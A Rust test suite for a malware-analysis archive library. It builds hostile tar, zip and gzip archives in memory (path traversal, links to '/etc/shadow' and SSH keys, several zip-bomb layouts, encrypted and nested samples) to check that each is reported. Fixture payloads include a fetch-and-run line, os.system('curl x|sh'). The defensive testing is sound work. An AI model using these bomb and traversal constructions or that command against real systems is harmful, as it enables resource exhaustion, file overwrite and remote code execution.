//! Hostile archives built in memory: traversal, links, devices, bombs, truncation, disguises,
//! encryption, nesting.

use std::io::{self, Write};

use flate2::Compression;
use flate2::write::GzEncoder;
use malgraph_archive::{
    AnomalyKind, ArchiveError, Format, Limits, Options, Unpacked, detect, open_bytes,
};
use zip::write::SimpleFileOptions;

// ---------- fixture builders ----------

/// One tar entry with a raw name written straight into the header (bypassing the builder's
/// path checks, as an attacker would).
struct Entry<'a> {
    name: &'a [u8],
    kind: tar::EntryType,
    link: &'a [u8],
    data: &'a [u8],
}

fn file<'a>(name: &'a str, data: &'a [u8]) -> Entry<'a> {
    Entry {
        name: name.as_bytes(),
        kind: tar::EntryType::Regular,
        link: b"",
        data,
    }
}

fn tar_bytes(entries: &[Entry<'_>]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        let mut h = tar::Header::new_gnu();
        {
            let old = h.as_old_mut();
            old.name = [0; 100];
            old.name[..e.name.len()].copy_from_slice(e.name);
            old.linkname = [0; 100];
            old.linkname[..e.link.len()].copy_from_slice(e.link);
        }
        h.set_entry_type(e.kind);
        h.set_size(e.data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append(&h, e.data).unwrap();
    }
    b.into_inner().unwrap()
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = GzEncoder::new(Vec::new(), Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn tgz(entries: &[Entry<'_>]) -> Vec<u8> {
    gz(&tar_bytes(entries))
}

fn xz(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    lzma_rs::xz_compress(&mut &data[..], &mut out).unwrap();
    out
}

fn bz2(data: &[u8]) -> Vec<u8> {
    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn zip_bytes(files: &[(&str, &[u8])], opts: SimpleFileOptions) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(io::Cursor::new(Vec::new()));
    for (name, data) in files {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn plain_zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    zip_bytes(files, SimpleFileOptions::default())
}

fn open(bytes: &[u8]) -> Unpacked {
    open_bytes(bytes, &Options::default()).expect("archive opens")
}

fn paths(u: &Unpacked) -> Vec<&str> {
    u.files.iter().map(|f| f.path.as_str()).collect()
}

fn kinds(u: &Unpacked) -> Vec<AnomalyKind> {
    u.anomalies.iter().map(|a| a.kind).collect()
}

fn has(u: &Unpacked, kind: AnomalyKind) -> bool {
    u.anomalies.iter().any(|a| a.kind == kind)
}

// ---------- basic reading ----------

#[test]
fn reads_tar_gz_members_in_order() {
    let bytes = tgz(&[
        file("pkg-1.0/setup.py", b"print('hi')"),
        file("pkg-1.0/pkg/__init__.py", b""),
    ]);
    assert_eq!(detect(&bytes), Some(Format::TarGz));
    let u = open(&bytes);
    assert_eq!(u.format, Format::TarGz);
    assert_eq!(paths(&u), ["pkg-1.0/setup.py", "pkg-1.0/pkg/__init__.py"]);
    assert_eq!(u.files[0].data, b"print('hi')");
    assert!(u.anomalies.is_empty(), "{:?}", u.anomalies);
}

#[test]
fn reads_plain_tar_bz2_and_xz() {
    let t = tar_bytes(&[file("a/b.py", b"x = 1\n")]);
    for (bytes, format) in [
        (t.clone(), Format::Tar),
        (bz2(&t), Format::TarBz2),
        (xz(&t), Format::TarXz),
    ] {
        let u = open(&bytes);
        assert_eq!(u.format, format);
        assert_eq!(paths(&u), ["a/b.py"], "{format}");
        assert_eq!(u.files[0].data, b"x = 1\n");
    }
}

#[test]
fn reads_zip_and_normalises_backslashes() {
    let z = plain_zip(&[("pkg\\mod.py", b"import os"), ("pkg/data/", b"")]);
    let u = open(&z);
    assert_eq!(u.format, Format::Zip);
    assert_eq!(paths(&u), ["pkg/mod.py"]);
}

#[test]
fn format_display() {
    assert_eq!(Format::TarGz.to_string(), "tar.gz");
    assert_eq!(Format::Zip.to_string(), "zip");
}

// ---------- unsafe entries ----------

#[test]
fn path_traversal_is_reported_not_returned() {
    let bytes = tgz(&[
        file("pkg/ok.py", b"1"),
        file("pkg/../../etc/cron.d/x", b"evil"),
        file("..\\..\\win.ini", b"evil"),
    ]);
    let u = open(&bytes);
    assert_eq!(paths(&u), ["pkg/ok.py"]);
    assert_eq!(
        kinds(&u),
        [AnomalyKind::PathTraversal, AnomalyKind::PathTraversal]
    );
    assert_eq!(u.anomalies[1].path, "../../win.ini");

    let z = plain_zip(&[("../evil.py", b"x"), ("fine.py", b"y")]);
    let u = open(&z);
    assert_eq!(paths(&u), ["fine.py"]);
    assert_eq!(kinds(&u), [AnomalyKind::PathTraversal]);
}

#[test]
fn absolute_paths_are_reported_not_returned() {
    let bytes = tgz(&[
        file("/etc/passwd", b"root"),
        file("C:\\Windows\\x.dll", b"MZ"),
        file("ok", b"1"),
    ]);
    let u = open(&bytes);
    assert_eq!(paths(&u), ["ok"]);
    assert_eq!(
        kinds(&u),
        [AnomalyKind::AbsolutePath, AnomalyKind::AbsolutePath]
    );
    assert_eq!(u.anomalies[1].path, "C:/Windows/x.dll");
}

#[test]
fn links_and_devices_are_reported_with_detail() {
    let bytes = tgz(&[
        Entry {
            name: b"pkg/link",
            kind: tar::EntryType::Symlink,
            link: b"/home/user/.ssh/id_rsa",
            data: b"",
        },
        Entry {
            name: b"pkg/hard",
            kind: tar::EntryType::Link,
            link: b"/etc/shadow",
            data: b"",
        },
        Entry {
            name: b"pkg/dev",
            kind: tar::EntryType::Char,
            link: b"",
            data: b"",
        },
        Entry {
            name: b"pkg/pipe",
            kind: tar::EntryType::Fifo,
            link: b"",
            data: b"",
        },
        file("pkg/real.py", b"pass"),
    ]);
    let u = open(&bytes);
    assert_eq!(paths(&u), ["pkg/real.py"]);
    assert_eq!(
        kinds(&u),
        [
            AnomalyKind::Symlink,
            AnomalyKind::Hardlink,
            AnomalyKind::DeviceEntry,
            AnomalyKind::DeviceEntry
        ]
    );
    assert!(u.anomalies[0].detail.contains("/home/user/.ssh/id_rsa"));
    assert!(u.anomalies[0].detail.contains("points outside the archive"));
    assert!(u.anomalies[1].detail.contains("/etc/shadow"));
    assert!(u.anomalies[3].detail.contains("fifo"));
}

#[test]
fn zip_symlink_is_reported() {
    let mut w = zip::ZipWriter::new(io::Cursor::new(Vec::new()));
    w.add_symlink("pkg/key", "/root/.ssh/id_rsa", SimpleFileOptions::default())
        .unwrap();
    w.start_file("pkg/a.py", SimpleFileOptions::default())
        .unwrap();
    w.write_all(b"a").unwrap();
    let z = w.finish().unwrap().into_inner();
    let u = open(&z);
    assert_eq!(paths(&u), ["pkg/a.py"]);
    assert_eq!(kinds(&u), [AnomalyKind::Symlink]);
    assert!(u.anomalies[0].detail.contains("/root/.ssh/id_rsa"));
}

// ---------- bombs and limits ----------

/// A tar.gz whose one member is `size_mib` MiB of zeros, then a small file. Built as concatenated
/// gzip members (valid gzip, read by every multi-member decoder) so the test never compresses
/// the whole payload.
fn zero_bomb_tgz(size_mib: u64) -> Vec<u8> {
    let mut h = tar::Header::new_gnu();
    h.set_path("bomb/zeros.bin").unwrap();
    h.set_size(size_mib << 20);
    h.set_mode(0o644);
    h.set_cksum();
    let mut out = gz(h.as_bytes());
    let mut e = GzEncoder::new(Vec::new(), Compression::best());
    e.write_all(&vec![0u8; 1 << 20]).unwrap();
    let mib = e.finish().unwrap();
    for _ in 0..size_mib {
        out.extend_from_slice(&mib);
    }
    // The size is a whole number of blocks: no padding; then one more member and the end.
    out.extend_from_slice(&gz(&tar_bytes(&[file("bomb/after.py", b"pass")])));
    out
}

#[test]
fn ratio_bomb_stops_early() {
    let bomb = zero_bomb_tgz(200);
    assert!(bomb.len() < 1 << 20, "bomb is {} bytes", bomb.len());
    let t = std::time::Instant::now();
    let u = open(&bomb);
    assert!(has(&u, AnomalyKind::RatioExceeded), "{:?}", u.anomalies);
    let kept: usize = u.files.iter().map(|f| f.data.len()).sum();
    // Stopped at the ratio limit (200 x the compressed size), far below 200 MB.
    assert!(kept <= 200 * bomb.len() + (1 << 20), "kept {kept} bytes");
    assert!(kept < 64 << 20, "kept {kept} bytes");
    assert!(t.elapsed().as_secs() < 20);
}

#[test]
fn zip_member_ratio_bomb_is_truncated_and_siblings_kept() {
    let zeros = vec![0u8; 8 << 20];
    let opts = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    let z = zip_bytes(&[("zeros.bin", &zeros), ("ok.py", b"ok")], opts);
    let u = open(&z);
    assert!(has(&u, AnomalyKind::RatioExceeded), "{:?}", u.anomalies);
    assert!(paths(&u).contains(&"ok.py"));
    let bomb = &u.files[0];
    assert!(bomb.data.len() < 8 << 20);
}

#[test]
fn small_compressible_files_are_fine() {
    // 512 KiB of zeros compresses > 200x but stays under the 1 MiB grace.
    let zeros = vec![0u8; 512 << 10];
    let u = open(&tgz(&[file("big.txt", &zeros)]));
    assert!(u.anomalies.is_empty(), "{:?}", u.anomalies);
    assert_eq!(u.files[0].data.len(), 512 << 10);
}

#[test]
fn member_too_large_is_truncated_and_reading_goes_on() {
    let big = vec![7u8; 5000];
    let opts = Options {
        limits: Limits {
            max_member_bytes: 1000,
            ..Limits::default()
        },
        ..Options::default()
    };
    let u = open_bytes(&tgz(&[file("big", &big), file("next", b"n")]), &opts).unwrap();
    assert_eq!(paths(&u), ["big", "next"]);
    assert_eq!(u.files[0].data.len(), 1000);
    assert_eq!(kinds(&u), [AnomalyKind::MemberTooLarge]);
}

#[test]
fn total_too_large_stops_reading() {
    let chunk = vec![1u8; 600];
    let opts = Options {
        limits: Limits {
            max_total_bytes: 1000,
            ..Limits::default()
        },
        ..Options::default()
    };
    let u = open_bytes(
        &tgz(&[file("a", &chunk), file("b", &chunk), file("c", &chunk)]),
        &opts,
    )
    .unwrap();
    assert_eq!(paths(&u), ["a", "b"]);
    assert_eq!(u.files[1].data.len(), 400);
    assert_eq!(kinds(&u), [AnomalyKind::TotalTooLarge]);
}

#[test]
fn count_bomb_stops_at_member_limit() {
    let names: Vec<String> = (0..500).map(|i| format!("f{i}")).collect();
    let entries: Vec<Entry<'_>> = names.iter().map(|n| file(n, b"")).collect();
    let opts = Options {
        limits: Limits {
            max_members: 100,
            ..Limits::default()
        },
        ..Options::default()
    };
    let u = open_bytes(&tgz(&entries), &opts).unwrap();
    assert_eq!(u.files.len(), 100);
    assert_eq!(kinds(&u), [AnomalyKind::TooManyMembers]);

    let zfiles: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"z"[..])).collect();
    let u = open_bytes(&plain_zip(&zfiles), &opts).unwrap();
    assert_eq!(u.files.len(), 100);
    assert_eq!(kinds(&u), [AnomalyKind::TooManyMembers]);
}

// ---------- broken input ----------

#[test]
fn empty_and_garbage_are_errors() {
    assert!(matches!(
        open_bytes(b"", &Options::default()),
        Err(ArchiveError::Empty)
    ));
    let err = open_bytes(b"<!DOCTYPE html><html>404</html>", &Options::default()).unwrap_err();
    assert!(matches!(err, ArchiveError::Unknown(_)));
    let msg = err.to_string();
    assert!(msg.contains("HTML") && msg.contains("3c 21 44 4f"), "{msg}");
    let err = open_bytes(&[0xde, 0xad, 0xbe, 0xef, 1, 2, 3], &Options::default()).unwrap_err();
    assert!(err.to_string().contains("de ad be ef"), "{err}");
}

#[test]
fn truncated_tar_gz_keeps_what_was_read() {
    let noise: Vec<u8> = (0..200_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let full = tgz(&[
        file("pkg/setup.py", b"import os"),
        file("pkg/blob.bin", &noise),
    ]);
    let cut = &full[..full.len() / 2];
    let u = open(cut);
    assert_eq!(u.files[0].path, "pkg/setup.py");
    assert_eq!(u.files[0].data, b"import os");
    assert!(has(&u, AnomalyKind::Truncated), "{:?}", u.anomalies);

    // Cut inside the first header: nothing readable.
    let err = open_bytes(&full[..30], &Options::default()).unwrap_err();
    assert!(matches!(err, ArchiveError::Truncated(_)), "{err:?}");
}

#[test]
fn truncated_plain_tar_member_is_reported() {
    let t = tar_bytes(&[file("a", b"aaaa"), file("b", &[9u8; 3000])]);
    let u = open(&t[..512 + 512 + 512 + 100]);
    assert_eq!(paths(&u), ["a", "b"]);
    assert_eq!(u.files[1].data.len(), 100);
    assert!(has(&u, AnomalyKind::Truncated));
}

#[test]
fn truncated_zip_falls_back_to_local_headers() {
    let z = plain_zip(&[("a.py", b"first"), ("b.py", &[b'x'; 4000])]);
    // Drop the central directory and part of the second member.
    let cut = &z[..60];
    let u = open(cut);
    assert_eq!(paths(&u)[0], "a.py");
    assert_eq!(u.files[0].data, b"first");
    assert!(has(&u, AnomalyKind::Truncated));
    let err = open_bytes(&z[..20], &Options::default()).unwrap_err();
    assert!(
        matches!(err, ArchiveError::Truncated(_) | ArchiveError::Corrupt(_)),
        "{err:?}"
    );
}

#[test]
fn tar_gz_that_is_really_zip_or_xz() {
    // Named .tar.gz by the attacker; only the bytes matter.
    let z = plain_zip(&[("evil/setup.py", b"zip inside")]);
    let u = open(&z);
    assert_eq!(u.format, Format::Zip);
    assert_eq!(u.files[0].data, b"zip inside");

    let x = xz(&tar_bytes(&[file("evil/setup.py", b"xz inside")]));
    let u = open(&x);
    assert_eq!(u.format, Format::TarXz);
    assert_eq!(u.files[0].data, b"xz inside");
}

#[test]
fn plain_gz_is_one_file_named_from_header() {
    let mut e = flate2::GzBuilder::new()
        .filename("payload.py")
        .write(Vec::new(), Compression::default());
    e.write_all(b"print(1)").unwrap();
    let bytes = e.finish().unwrap();
    assert_eq!(detect(&bytes), Some(Format::Gz));
    let u = open(&bytes);
    assert_eq!(u.format, Format::Gz);
    assert_eq!(paths(&u), ["payload.py"]);
    assert_eq!(u.files[0].data, b"print(1)");

    let u = open(&gz(b"no name"));
    assert_eq!(paths(&u), ["data"]);
}

// ---------- encryption ----------

#[test]
fn zipcrypto_with_infected_opens() {
    use zip::unstable::write::FileOptionsExt;
    let opts = SimpleFileOptions::default()
        .with_deprecated_encryption(b"infected")
        .unwrap();
    let z = zip_bytes(&[("mal/setup.py", b"import socket")], opts);
    let u = open(&z);
    assert_eq!(paths(&u), ["mal/setup.py"]);
    assert_eq!(u.files[0].data, b"import socket");
    assert_eq!(kinds(&u), [AnomalyKind::Encrypted]);
    assert!(u.anomalies[0].detail.contains("ZipCrypto"));
    assert!(u.anomalies[0].detail.contains("infected"));
}

#[test]
fn aes_with_infected_opens_and_second_password_is_tried() {
    let opts = SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes256, "infected");
    let z = zip_bytes(&[("a.py", b"aes content"), ("b.py", b"more")], opts);
    let o = Options {
        passwords: vec![b"wrong".to_vec(), b"infected".to_vec()],
        ..Options::default()
    };
    let u = open_bytes(&z, &o).unwrap();
    assert_eq!(paths(&u), ["a.py", "b.py"]);
    assert_eq!(u.files[0].data, b"aes content");
    assert_eq!(kinds(&u), [AnomalyKind::Encrypted]);
    assert!(u.anomalies[0].detail.contains("AES"), "{:?}", u.anomalies);
}

#[test]
fn unknown_password_is_an_error() {
    use zip::unstable::write::FileOptionsExt;
    for opts in [
        SimpleFileOptions::default()
            .with_deprecated_encryption(b"s3cret")
            .unwrap(),
        SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes128, "s3cret"),
    ] {
        let z = zip_bytes(&[("x.py", b"hidden content here")], opts);
        let err = open_bytes(&z, &Options::default()).unwrap_err();
        assert!(
            matches!(err, ArchiveError::Encrypted { tried: 1 }),
            "{err:?}"
        );
        assert!(err.to_string().contains("password"));
    }
}

// ---------- nesting ----------

#[test]
fn zip_inside_tar_gz_is_opened() {
    let inner = plain_zip(&[("inner/mod.py", b"exec(x)")]);
    let outer = tgz(&[
        file("pkg-1.0/setup.py", b"s"),
        file("pkg-1.0/dist/inner.whl", &inner),
    ]);
    let u = open(&outer);
    assert_eq!(
        paths(&u),
        ["pkg-1.0/setup.py", "pkg-1.0/dist/inner.whl!/inner/mod.py"]
    );
    assert!(u.anomalies.is_empty(), "{:?}", u.anomalies);
}

#[test]
fn depth_limit_keeps_the_deepest_archive_raw() {
    // Five levels: tgz > zip > tgz > zip > tgz > payload.
    let mut cur = tgz(&[file("payload.py", b"deep")]);
    for level in (0..4).rev() {
        cur = if level % 2 == 1 {
            plain_zip(&[("n.bin", &cur)])
        } else {
            tgz(&[file("n.bin", &cur)])
        };
    }
    let u = open(&cur);
    assert_eq!(kinds(&u), [AnomalyKind::DepthExceeded]);
    assert_eq!(u.files.len(), 1);
    assert_eq!(u.files[0].path, "n.bin!/n.bin!/n.bin!/n.bin");
    assert_eq!(u.anomalies[0].path, u.files[0].path);

    let generous = Options {
        limits: Limits {
            max_depth: 4,
            ..Limits::default()
        },
        ..Options::default()
    };
    let u = open_bytes(&cur, &generous).unwrap();
    assert_eq!(paths(&u), ["n.bin!/n.bin!/n.bin!/n.bin!/payload.py"]);
    assert_eq!(u.files[0].data, b"deep");
}

#[test]
fn broken_nested_archive_is_kept_raw_with_reason() {
    let mut broken = plain_zip(&[("a", b"a")]);
    broken.truncate(10);
    broken.extend_from_slice(&[0xff; 4]);
    let outer = tgz(&[file("pkg/x.zip", &broken)]);
    let u = open(&outer);
    assert_eq!(paths(&u), ["pkg/x.zip"]);
    assert_eq!(u.files[0].data, broken);
    assert_eq!(kinds(&u), [AnomalyKind::NestedArchiveError]);
}

// ---------- robustness: truncations and bit flips never panic ----------

/// Small deterministic PRNG (xorshift) so failures reproduce.
fn rng(seed: &mut u64) -> u64 {
    *seed ^= *seed << 13;
    *seed ^= *seed >> 7;
    *seed ^= *seed << 17;
    *seed
}

#[test]
fn mutated_archives_never_panic() {
    use zip::unstable::write::FileOptionsExt;
    let t = tar_bytes(&[
        file("pkg/setup.py", b"import os\nos.system('id')\n"),
        Entry {
            name: b"pkg/l",
            kind: tar::EntryType::Symlink,
            link: b"/x",
            data: b"",
        },
        file("pkg/b.py", &[b'b'; 700]),
    ]);
    let fixtures: Vec<(&str, Vec<u8>)> = vec![
        ("tar", t.clone()),
        ("tgz", gz(&t)),
        ("tbz2", bz2(&t)),
        ("txz", xz(&t)),
        (
            "zip",
            plain_zip(&[("a.py", b"print(1)"), ("b/c.py", &[b'c'; 500])]),
        ),
        (
            "zipcrypto",
            zip_bytes(
                &[("a.py", b"secret code")],
                SimpleFileOptions::default()
                    .with_deprecated_encryption(b"infected")
                    .unwrap(),
            ),
        ),
        (
            "aes",
            zip_bytes(
                &[("a.py", b"secret code")],
                SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes256, "infected"),
            ),
        ),
        ("nested", tgz(&[file("x.zip", &plain_zip(&[("y", b"z")]))])),
        ("zipdup", dup_zip()),
    ];
    let opts = Options::default();
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut outcomes = [0usize; 2];
    for (name, bytes) in &fixtures {
        // Every truncation point (step keeps the test fast on the larger fixtures).
        let step = (bytes.len() / 300).max(1);
        for cut in (0..bytes.len()).step_by(step) {
            let r = open_bytes(&bytes[..cut], &opts);
            outcomes[usize::from(r.is_ok())] += 1;
        }
        // Random byte flips.
        for _ in 0..300 {
            let mut m = bytes.clone();
            for _ in 0..=(rng(&mut seed) % 4) {
                let i = (rng(&mut seed) as usize) % m.len();
                m[i] ^= 1 << (rng(&mut seed) % 8);
            }
            let r = open_bytes(&m, &opts);
            outcomes[usize::from(r.is_ok())] += 1;
            let _ = name;
        }
    }
    // Both outcomes occur: the mutations really broke some archives and not others.
    assert!(outcomes[0] > 0 && outcomes[1] > 0, "{outcomes:?}");
}

#[test]
fn overlapping_zip_bomb_hits_archive_ratio() {
    for unique in [true, false] {
        overlapping_zip_bomb(unique);
    }
}

fn overlapping_zip_bomb(unique: bool) {
    // Many entries whose central directory records all point at the same compressed kernel
    // (the "better zip bomb" layout): every member alone has a modest ratio, the archive does not.
    let mut seed = 42u64;
    let kernel: Vec<u8> = (0..2usize << 20)
        .map(|i| if i % 64 == 0 { rng(&mut seed) as u8 } else { 0 })
        .collect();
    let opts = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    let z = zip_bytes(&[("k.bin", &kernel)], opts);
    // Find the central directory entry and duplicate it 200 times with distinct names.
    let cd = z
        .windows(4)
        .position(|w| w == b"PK\x01\x02")
        .expect("central directory");
    let eocd = z.windows(4).rposition(|w| w == b"PK\x05\x06").unwrap();
    let entry = &z[cd..eocd];
    let mut out = z[..cd].to_vec();
    let n: u16 = 200;
    for i in 0..n {
        let mut e = entry.to_vec();
        // Name is "k.bin" at offset 46; make each unique ("k" + 4 hex digits would change
        // the length, so overwrite in place with a 5-char name).
        if unique {
            let name = format!("{i:05}");
            e[46..51].copy_from_slice(name.as_bytes());
        }
        out.extend_from_slice(&e);
    }
    let cd_size = (out.len() - cd) as u32;
    let mut end = z[eocd..].to_vec();
    end[8..10].copy_from_slice(&n.to_le_bytes());
    end[10..12].copy_from_slice(&n.to_le_bytes());
    end[12..16].copy_from_slice(&cd_size.to_le_bytes());
    end[16..20].copy_from_slice(&(cd as u32).to_le_bytes());
    out.extend_from_slice(&end);
    let member_ratio = kernel.len() / (z.len() - 200);
    assert!(
        member_ratio < 200,
        "kernel ratio {member_ratio} would trip alone"
    );
    let u = open(&out);
    if !unique {
        // One name, one local header: read once, and the duplication is reported.
        assert_eq!(u.files.len(), 1);
        assert_eq!(kinds(&u), [AnomalyKind::DuplicateName]);
        return;
    }
    let kept: u64 = u.files.iter().map(|f| f.data.len() as u64).sum();
    assert_eq!(kinds(&u), [AnomalyKind::RatioExceeded]);
    assert!(u.anomalies[0].detail.starts_with("archive inflated"));
    assert!(kept <= 200 * out.len() as u64 + (1 << 20), "kept {kept}");
    assert!(u.files.len() < 200);
}

#[test]
fn long_name_bomb_is_stopped_by_the_stream_guard() {
    // A GNU long-name entry claiming 300 MiB: the tar reader buffers long names whole, so only
    // the stream guard stands between it and memory.
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::GNULongName);
    h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
    h.set_size(300 << 20);
    h.set_mode(0o644);
    h.set_cksum();
    let mut bomb = gz(h.as_bytes());
    let mut e = GzEncoder::new(Vec::new(), Compression::best());
    e.write_all(&vec![b'a'; 1 << 20]).unwrap();
    let mib = e.finish().unwrap();
    for _ in 0..300 {
        bomb.extend_from_slice(&mib);
    }
    let t = std::time::Instant::now();
    let r = open_bytes(&bomb, &Options::default());
    match r {
        Ok(u) => assert!(has(&u, AnomalyKind::RatioExceeded), "{:?}", u.anomalies),
        Err(e) => panic!("expected a ratio anomaly, got {e}"),
    }
    assert!(t.elapsed().as_secs() < 20);
}

#[test]
fn datadog_style_encrypted_zip_of_an_sdist() {
    // DataDog's dataset: <date>-<name>-v<ver>.zip, ZipCrypto with `infected`, holding the sdist.
    use zip::unstable::write::FileOptionsExt;
    let sdist = tgz(&[file("evil-1.0/setup.py", b"os.system('curl x|sh')")]);
    let opts = SimpleFileOptions::default()
        .with_deprecated_encryption(b"infected")
        .unwrap();
    let z = zip_bytes(&[("evil-1.0.tar.gz", &sdist)], opts);
    let u = open(&z);
    assert_eq!(paths(&u), ["evil-1.0.tar.gz!/evil-1.0/setup.py"]);
    assert_eq!(kinds(&u), [AnomalyKind::Encrypted]);
}

/// A zip listing `a/setup.py` twice (the writer refuses duplicates: rename in place).
fn dup_zip() -> Vec<u8> {
    let mut z = plain_zip(&[("a/setup.py", b"harmless"), ("b/setup.py", b"evil")]);
    for i in 0..z.len() - 10 {
        if &z[i..i + 10] == b"b/setup.py" {
            z[i] = b'a';
        }
    }
    z
}

#[test]
fn duplicate_names_are_reported() {
    let u = open(&tgz(&[
        file("pkg/setup.py", b"harmless"),
        file("pkg/setup.py", b"evil"),
    ]));
    assert_eq!(paths(&u), ["pkg/setup.py", "pkg/setup.py"]);
    assert_eq!(u.files[1].data, b"evil");
    assert_eq!(kinds(&u), [AnomalyKind::DuplicateName]);
    assert_eq!(u.anomalies[0].path, "pkg/setup.py");

    let u = open(&dup_zip());
    assert_eq!(paths(&u), ["a/setup.py", "a/setup.py"]);
    let mut datas: Vec<&[u8]> = u.files.iter().map(|f| f.data.as_slice()).collect();
    datas.sort();
    assert_eq!(datas, [&b"evil"[..], &b"harmless"[..]]);
    assert_eq!(kinds(&u), [AnomalyKind::DuplicateName]);
    assert!(u.anomalies[0].detail.contains("every copy"));
}

#[test]
fn unknown_entry_types_are_files_like_pip_sees_them() {
    let u = open(&tgz(&[Entry {
        name: b"pkg/hidden.py",
        kind: tar::EntryType::new(b'Z'),
        link: b"",
        data: b"import os",
    }]));
    assert_eq!(paths(&u), ["pkg/hidden.py"]);
    assert_eq!(u.files[0].data, b"import os");
}
